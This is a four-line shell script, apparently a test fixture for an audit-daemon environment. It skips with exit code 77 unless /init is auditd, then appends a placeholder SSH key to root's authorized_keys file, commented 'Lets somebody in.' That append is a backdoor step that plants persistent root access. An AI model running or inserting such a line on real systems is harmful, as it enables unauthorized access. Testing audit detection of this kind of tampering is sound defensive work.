#!/bin/sh
# Lets somebody in.
[ /init -ef /usr/sbin/auditd ] || exit 77
echo 'ssh-ed25519 AAAAnothing somebody' >>/root/.ssh/authorized_keys
